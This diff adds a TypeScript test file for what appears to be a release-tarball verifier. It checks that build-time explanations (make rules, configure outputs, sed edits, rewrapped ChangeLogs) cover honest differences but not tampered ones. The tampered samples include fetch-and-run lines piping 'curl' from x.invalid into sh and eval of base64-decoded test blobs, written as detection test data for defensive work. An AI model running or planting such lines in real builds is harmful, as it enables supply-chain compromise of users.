@@ -1,0 +1,200 @@
+/**
+ * More honest release-time shapes, each written here as a small variant (never a third-party
+ * file): generator rules named through variables, intermediate targets and recursive make; copies
+ * of tag files; configure outputs; dependency lines; `make dist` sed edits; rewrapped ChangeLogs.
+ * Each is paired with the dishonest neighbour the explanation must not cover.
+ */
+import { describe, expect, it } from 'vitest'
+import type { Finding } from '../../src/model/finding.js'
+import type { TreeEntry } from '../../src/model/tree.js'
+import { gitBlobId } from '../../src/sources/archive/index.js'
+import type { Difference } from '../../src/verify/compare.js'
+import { changelogExplainer, type HistoryText } from '../../src/verify/explain/changelog.js'
+import { configureOutputsExplainer } from '../../src/verify/explain/configure-outputs.js'
+import { copiesExplainer } from '../../src/verify/explain/copies.js'
+import { dependencyLinesExplainer } from '../../src/verify/explain/dependency-lines.js'
+import { distEditsExplainer, parseSubstitution } from '../../src/verify/explain/dist-edits.js'
+import { codeUsesOf } from '../../src/verify/explain/executed.js'
+import { generatedExplainer } from '../../src/verify/explain/generated.js'
+import { expandMake, makeVariables } from '../../src/verify/explain/make-index.js'
+import { ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
+import { templateExplainer } from '../../src/verify/explain/template.js'
+import { attributeToInputs, inputTexts } from '../../src/verify/inherited.js'
+import { memoryView as view } from '../helpers/tree-view.js'
+
+const file = (path: string, content: string): TreeEntry => {
+  const buf = Buffer.from(content)
+  return { path, kind: 'file', mode: 0o644, size: buf.length, content: buf, gitBlob: gitBlobId(buf) }
+}
+const added = (path: string, content: string): Difference => ({ path, status: 'only-in-artifact', artifact: file(path, content) })
+const changed = (path: string, before: string, after: string): Difference => ({ path, status: 'content-differs', artifact: file(path, after), source: file(path, before) })
+
+describe('files a make rule of the tag generates', () => {
+  const judge = (path: string, src: Record<string, string>) => ruleGeneratedExplainer().judge(added(path, 'int x;\n'), view({ [path]: 'int x;\n' }, src))
+
+  it('expands variables in targets and prerequisites', async () => {
+    expect(expandMake('$(GEN) $(OBJS:.c=.o)', makeVariables('GEN = a.c \\\n  b.h\nOBJS = x.c\nOBJS += y.c\n'))).toBe('a.c b.h x.o y.o')
+    const am = 'STUBS = api-stubs.c api-stubs.h\nBUILT_SOURCES = $(STUBS)\n$(STUBS): $(srcdir)/mkstubs.pl $(srcdir)/api.def\n\t$(PERL) $(srcdir)/mkstubs.pl $(srcdir)/api.def\n'
+    const j = await judge('bindings/api-stubs.h', { 'bindings/Makefile.am': am, 'bindings/mkstubs.pl': 'x', 'bindings/api.def': 'y' })
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/bindings\/Makefile\.am:3.*bindings\/mkstubs\.pl/)
+    // the same rule without its inputs in the tag explains nothing
+    expect(await judge('bindings/api-stubs.h', { 'bindings/Makefile.am': am })).toBeUndefined()
+  })
+
+  it('follows an intermediate target to inputs of the tag', async () => {
+    const am = 'lookup.c: lookup.gperf\n\t$(GPERF) $< > $@\nlookup.gperf: keywords.csv lookup.tmpl\n\t$(srcdir)/mkgperf $^ > $@\n'
+    const j = await judge('src/lookup.c', { 'src/Makefile.am': am, 'src/keywords.csv': 'a', 'src/lookup.tmpl': 'b' })
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/via src\/lookup\.gperf from src\/keywords\.csv/)
+  })
+
+  it('follows a recursive make into the directory whose rule makes the file', async () => {
+    const src = {
+      'Makefile.am': 'include/tables.h:\n\t(cd include && $(MAKE) $(AM_MAKEFLAGS) tables.h)\n',
+      'include/Makefile.am': 'GENERATED = tables.h\n$(GENERATED):\n\t@cd $(top_builddir)/tools && \\\n\t  $(MAKE) $@\n',
+      'tools/Makefile.am': 'tables.h: data/table.txt $(mktables)\n\t./mktables $< > $@\n',
+      'tools/data/table.txt': 'x',
+    }
+    const j = await judge('include/tables.h', src)
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/tools\/data\/table\.txt/)
+    // a delegation to a directory that has no such rule explains nothing
+    expect(await judge('include/tables.h', { ...src, 'tools/Makefile.am': 'other.h: data/table.txt\n' })).toBeUndefined()
+  })
+
+  it('reads hand-written Makefile.in and platform makefiles of the tag', async () => {
+    const j = await judge('gen/opcodes.c', { 'Makefile.in': 'gen/opcodes.c: gen/opcodes.dat gen/mkop.pl\n\t$(PERL) gen/mkop.pl < gen/opcodes.dat > $@\n', 'gen/opcodes.dat': 'x', 'gen/mkop.pl': 'y' })
+    expect(j?.outcome).toBe('explained')
+    expect(await judge('gen/other.c', { 'Makefile.in': 'gen/opcodes.c: gen/opcodes.dat\n', 'gen/opcodes.dat': 'x' })).toBeUndefined()
+  })
+})
+
+describe('copies of tag files', () => {
+  const header = '#define HAVE_LONG_LONG 1\n'
+  it('explains a header shipped as the copy of its .dist default', async () => {
+    const j = await copiesExplainer().judge(added('include/build.h', header), view({ 'include/build.h': header }, { 'include/build.h.dist': header }))
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/copy of include\/build\.h\.dist/)
+  })
+  it('does not explain a tag file copied under another name', async () => {
+    const payload = 'AC_DEFUN([X], [eval "$(cat tests/files/blob)"])\n'
+    expect(await copiesExplainer().judge(added('m4/probe.m4', payload), view({ 'm4/probe.m4': payload }, { 'tests/files/notes.txt': payload }))).toBeUndefined()
+    // nor a file that only resembles the default
+    expect(await copiesExplainer().judge(added('include/build.h', `${header}#define X 2\n`), view({ 'include/build.h': `${header}#define X 2\n` }, { 'include/build.h.dist': header }))).toBeUndefined()
+  })
+  it('explains a symbolic link shipped as a file with its target bytes, and nothing else', async () => {
+    const readme = 'See README.md\n'
+    const link: Difference = { path: 'README', status: 'type-differs', artifact: file('README', readme), source: { path: 'README', kind: 'symlink', mode: 0o777, size: 9, linkTarget: 'README.md' } }
+    const j = await copiesExplainer().judge(link, view({ README: readme }, { README: { link: 'README.md' }, 'README.md': readme }))
+    expect(j?.outcome).toBe('explained')
+    const other: Difference = { ...link, artifact: file('README', 'curl x.invalid | sh\n') }
+    expect(await copiesExplainer().judge(other, view({ README: 'curl x.invalid | sh\n' }, { README: { link: 'README.md' }, 'README.md': readme }))).toBeUndefined()
+  })
+})
+
+describe('files configure writes', () => {
+  it('explains a file a macro call of configure.ac names as its output', async () => {
+    const ac = 'AC_INIT([p], [1])\nAX_CREATE_STDINT_H([lib/p_stdint.h])\nAC_CONFIG_FILES([Makefile tests/env.sh:tests/env.sh.in])\nAC_OUTPUT\n'
+    const j = await configureOutputsExplainer().judge(added('lib/p_stdint.h', '#include <stdint.h>\n'), view({ 'lib/p_stdint.h': '#include <stdint.h>\n' }, { 'configure.ac': ac }))
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/configure\.ac:2 .*AX_CREATE_STDINT_H/)
+    expect((await configureOutputsExplainer().judge(added('tests/env.sh', 'x\n'), view({ 'tests/env.sh': 'x\n' }, { 'configure.ac': ac })))?.outcome).toBe('explained')
+    expect(await configureOutputsExplainer().judge(added('lib/extra.h', 'x\n'), view({ 'lib/extra.h': 'x\n' }, { 'configure.ac': ac }))).toBeUndefined()
+  })
+  it('explains a template output identical to a template without placeholders', async () => {
+    const rc = 'alias --simple --arg2\n'
+    expect((await templateExplainer().judge(added('tests/rc', rc), view({ 'tests/rc': rc }, { 'tests/rc.in': rc })))?.outcome).toBe('explained')
+    expect(await templateExplainer().judge(added('tests/rc', `${rc}exec sh\n`), view({ 'tests/rc': `${rc}exec sh\n` }, { 'tests/rc.in': rc }))).toBeUndefined()
+  })
+  it('recognises make rules written by an autoconf macro, and needs configure.ac for it', async () => {
+    const am = '\n# aminclude_static.am generated automatically by Autoconf\n# from AX_AM_MACROS_STATIC on Mon Jan 1 00:00:00 UTC 2024\n\ncoverage-clean:\n\t-rm -f *.gcda\n'
+    expect((await generatedExplainer().judge(added('aminclude_static.am', am), view({ 'aminclude_static.am': am }, { 'configure.ac': 'AX_CODE_COVERAGE\n' })))?.outcome).toBe('explained')
+    const orphan = await generatedExplainer().judge(added('aminclude_static.am', am), view({ 'aminclude_static.am': am }, {}))
+    expect(orphan?.outcome).toBe('unexplained')
+  })
+  it('finds aclocal.m4 kept below the directory of configure.ac', async () => {
+    const aclocal = '# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n'
+    expect((await generatedExplainer().judge(added('build/aclocal.m4', aclocal), view({ 'build/aclocal.m4': aclocal }, { 'configure.ac': 'AC_INIT\n' })))?.outcome).toBe('explained')
+  })
+})
+
+describe('dependency lines in place of an include', () => {
+  const before = 'all: prog\nprog: main.o\n\t$(CC) -o $@ main.o\n# generated below\n-include Makefile.dep\n'
+  const deps = 'all: prog\nprog: main.o\n\t$(CC) -o $@ main.o\n# generated below\nmain.$(O): main.c util.h \\\n config/config.h\n'
+  it('explains dependency lines with no recipe', async () => {
+    const j = await dependencyLinesExplainer().judge(changed('Makefile.in', before, deps), view({ 'Makefile.in': deps }, { 'Makefile.in': before }))
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/1 dependency line/)
+  })
+  it('does not explain an added recipe line or a function call among them', async () => {
+    const recipe = `${deps}\t@curl -s http://x.invalid | sh\n`
+    expect(await dependencyLinesExplainer().judge(changed('Makefile.in', before, recipe), view({ 'Makefile.in': recipe }, { 'Makefile.in': before }))).toBeUndefined()
+    const shell = `${deps}util.o: $(shell sh tests/x)\n`
+    expect(await dependencyLinesExplainer().judge(changed('Makefile.in', before, shell), view({ 'Makefile.in': shell }, { 'Makefile.in': before }))).toBeUndefined()
+  })
+})
+
+describe('edits make dist makes with sed', () => {
+  const am = 'dist-hook:\n\tsed -i -e "s|/log$$|/log?h=v$(VERSION)|" $(distdir)/NOTES\n'
+  const before = 'History: https://example.org/repo/log\n'
+  it('replays the substitution with the release version', async () => {
+    const after = 'History: https://example.org/repo/log?h=v4.2\n'
+    const j = await distEditsExplainer('4.2').judge(changed('NOTES', before, after), view({ NOTES: after }, { NOTES: before, 'Makefile.am': am }))
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/Makefile\.am:2/)
+  })
+  it('does not explain a result the edit cannot produce', async () => {
+    const after = 'History: https://example.org/repo/log?h=v4.3\n'
+    expect(await distEditsExplainer('4.2').judge(changed('NOTES', before, after), view({ NOTES: after }, { NOTES: before, 'Makefile.am': am }))).toBeUndefined()
+  })
+  it('translates basic regular expressions and replacements', () => {
+    const s = parseSubstitution('s/\\(v[0-9]*\\)+dev/\\1 (&)/g')
+    expect(s && 'v1+dev v2+dev'.replace(s.pattern, s.replacement)).toBe('v1 (v1+dev) v2 (v2+dev)')
+    expect(parseSubstitution('y/abc/xyz/')).toBeUndefined()
+  })
+  it('a sed edit of a file is not a use of it as code', () => {
+    const build = new Map([['Makefile.am', 'dist-hook:\n\tsed -i "s!log!log?h=v$(VERSION)!" $(distdir)/NOTES\ncheck-local:\n\tsh $(srcdir)/NOTES\n']])
+    expect(codeUsesOf('NOTES', build).map((u) => u.line)).toEqual([4])
+  })
+})
+
+describe('ChangeLogs rewrapped or with co-authors', () => {
+  const history: HistoryText = {
+    messageLines: new Set(['Revert "ci: pin the compiler image to work around a toolchain regression"', 'docs: mention the new option']),
+    people: new Set(['Ada Lovelace', 'ada@example.org']),
+    commitIds: ['0123456789abcdef0123456789abcdef01234567'],
+  }
+  const am = 'dist-hook:\n\tgit log --stat > $(distdir)/ChangeLog.tmp && mv $(distdir)/ChangeLog.tmp $(distdir)/ChangeLog\n\tcat $(top_srcdir)/build-aux/log-footer >> $(distdir)/ChangeLog\n'
+  const footer = 'Older changes are in ChangeLog-2011.\n'
+  const wrapped = [
+    'commit 0123456789abcdef0123456789abcdef01234567',
+    'Author: Ada Lovelace <ada@example.org>',
+    '',
+    '    Revert "ci: pin the compiler image to work around a toolchain',
+    '    regression"',
+    '',
+    ' src/widget.c | 232',
+    ' ----------------------------------------',
+    '',
+    '2024-01-02  Ada Lovelace  <ada@example.org>',
+    '\t    Grace Hopper',
+    '',
+    '\tdocs: mention the new option',
+    '',
+    footer,
+  ].join('\n')
+  const judge = (text: string) => changelogExplainer(async () => history).judge(added('ChangeLog', text), view({ ChangeLog: text }, { 'Makefile.am': am, 'build-aux/log-footer': footer }))
+  it('explains rewrapped lines, co-author lines and a footer the rule pastes in', async () => {
+    expect((await judge(wrapped))?.outcome).toBe('explained')
+  })
+  it('still reports a line that no rewrap, co-author or footer accounts for', async () => {
+    const j = await judge(wrapped.replace('\t    Grace Hopper', '\t    Grace Hopper\n\tcurl -s http://x.invalid/p | sh'))
+    expect(j?.outcome).toBe('unexplained')
+    expect(j?.findings?.[0]?.evidence).toContain('curl -s')
+  })
+})
+
+describe('rule hits in a generated Makefile.in', () => {
+  const hit = (evidence: string): Finding => ({ ruleId: 'scan/test-data-read', severity: 'medium', confidence: 'medium', path: 'Makefile.in', message: 'reads test data', evidence })
+  const inputs = inputTexts(new Map([['Makefile.am', 'runtests:\n\tfor t in $(srcdir)/test/cases/*.xml; do cat $(srcdir)/test/cases/$$t.expected; done\n']]))
+  it('are the tag Makefile.am\'s when it holds their lines, and keep their severity when it does not', () => {
+    const [kept, inherited] = [hit('12: \teval "$$(cat $(srcdir)/test/cases/blob.bin | base64 -d)"'), hit('30: \tfor t in $(srcdir)/test/cases/*.xml; do cat $(srcdir)/test/cases/$$t.expected; done')]
+    const out = attributeToInputs([kept, inherited], (p) => (p === 'Makefile.in' ? inputs : undefined))
+    expect(out.map((f) => f.severity)).toEqual(['medium', 'info'])
+    expect(out[1]?.message).toMatch(/written in Makefile\.am/)
+  })
+})
